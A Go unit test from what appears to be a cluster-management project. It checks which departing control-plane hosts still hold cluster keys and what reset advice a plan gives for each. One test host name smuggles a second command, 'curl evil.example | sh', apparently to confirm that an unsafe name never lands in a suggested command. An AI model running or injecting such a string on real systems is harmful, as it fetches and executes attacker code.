// Copyright The Strata Authors.
// SPDX-License-Identifier: Apache-2.0

package hostplans

import (
	"slices"
	"testing"

	"github.com/strata-project/strata/api/v1alpha1"
	"github.com/strata-project/strata/internal/hosts"
)

// A host of the control plane that leaves the manifest keeps the cluster's keys, and a plan says
// so, with the command that takes them away. What a member of etcd calls itself is in no command.
func TestHostsThatLeaveHaveKeys(t *testing.T) {
	cluster := &v1alpha1.HostCluster{}
	cluster.Spec.ControlPlane = []v1alpha1.ClusterHost{{Name: "cp-0"}, {Name: "cp-1"}}
	p := &Plan{}
	p.Actions = []hosts.Action{
		{Verb: hosts.VerbRemoveMember, Host: "cp-1"},
		{Verb: hosts.VerbRemoveMember, Host: "cp-2"},
		{Verb: hosts.VerbRemoveMember, Host: "x; curl evil.example | sh"},
		{Verb: hosts.VerbReset, Host: "cp-3"},
		{Verb: hosts.VerbRemoveNode, Host: "w-0"},
	}
	want := []string{
		"cp-2 leaves, and has the keys of the cluster: reset it with the manifest of before (kubectl strata hosts reset BEFORE.yaml --host cp-2), or wipe it",
		"x; curl evil.example | sh leaves, and has the keys of the cluster: wipe it",
	}
	if got := p.keepers(cluster); !slices.Equal(got, want) {
		t.Errorf("%q", got)
	}
}
